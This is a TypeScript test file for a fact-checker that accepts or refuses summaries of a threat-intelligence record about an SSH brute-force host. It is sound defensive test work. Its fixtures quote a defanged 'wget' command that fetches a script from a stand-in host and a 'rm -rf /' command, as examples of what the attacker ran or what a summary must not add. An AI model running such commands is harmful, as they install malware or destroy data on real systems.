import assert from 'node:assert/strict';
import { test } from 'node:test';
import { faultIn } from './fact-check.ts';

const FACTS = [
  '198[.]51[.]100[.]7 (Netherlands, AS64496 Example Hosting) had the shell load a file and guessed passwords over SSH on port 22 of 2 network sensors, at least 64 times from 2026-01-15 to 2026-01-16. It ran "wget http[:]//203[.]0[.]113[.]9/a.sh" and tried to log in as "root". Block it: where it can log in, it installs malware.',
  'malicious',
  'malware, brute force',
  'T1105',
].join('\n');

test('a text that says the same in other words passes', () => {
  for (const text of [
    'From 2026-01-15 to 2026-01-16, 198[.]51[.]100[.]7 in the Netherlands (AS64496, Example Hosting) guessed passwords over SSH on port 22 of two network sensors. It ran "wget http[:]//203[.]0[.]113[.]9/a.sh". Block it.',
    'A malicious host, 198.51.100.7, guessed SSH passwords at least 64 times and then loaded a file (T1105). Block it, because it installs malware.',
  ])
    assert.equal(faultIn(text, FACTS), undefined, text);
});

const REFUSED: readonly (readonly [text: string, fault: RegExp])[] = [
  ['198[.]51[.]100[.]8 guessed passwords over SSH on port 22. Block it.', /number, date or address/],
  ['198[.]51[.]100[.]7 guessed passwords over SSH on port 23. Block it.', /number, date or address/],
  ['198[.]51[.]100[.]7 guessed passwords over SSH 65 times. Block it.', /number, date or address/],
  ['198[.]51[.]100[.]7 guessed passwords since 2025-01-15 over SSH. Block it.', /number, date or address/],
  ['198[.]51[.]100[.]7 guessed passwords (T1110) over SSH on port 22.', /number, date or address/],
  ['198[.]51[.]100[.]7 guessed passwords at seven network sensors over SSH.', /number that/],
  ['198[.]51[.]100[.]7 loaded its files from evil.example over SSH. Block it.', /host name/],
  ['198[.]51[.]100[.]7 of the Lazarus group guessed passwords over SSH. Block it.', /a name/],
  ['Lazarus guessed passwords over SSH on port 22 of network sensors. Block it.', /a name/],
  ['198[.]51[.]100[.]7 in Germany guessed passwords over SSH on port 22.', /a name/],
  ['198[.]51[.]100[.]7 guessed passwords and ran "rm -rf /" over SSH.', /quotes/],
  ['198[.]51[.]100[.]7 guessed passwords over SSH, but it is harmless.', /judges/],
  ['198[.]51[.]100[.]7 is a legitimate host, so do not block it, please.', /judges/],
  ['198[.]51[.]100[.]7 guessed passwords. See http://198.51.100.7/ for more.', /markup or a link/],
  ['**198[.]51[.]100[.]7** guessed passwords over SSH on port 22. Block it.', /markup or a link/],
  ['As an AI language model, my summary is that it guessed passwords over SSH.', /itself/],
  ['198[.]51[.]100[.]7 guessed passwords\u202e over SSH on port 22. Block it.', /not plain text/],
  ['198[.]51[.]100[.]7 guessed пароли over SSH on port 22. Block it at once.', /not plain text/],
  ['It attacked.', /characters/],
  [`It guessed passwords over SSH on port 22. ${'Block it. '.repeat(20)}`, /sentences/],
  ['It guessed passwords over SSH "on port 22 of network sensors. Block it.', /no end/],
];

for (const [text, fault] of REFUSED) {
  test(`refused: ${text.slice(0, 70)}`, () => {
    assert.match(faultIn(text, FACTS) ?? '', fault);
  });
}
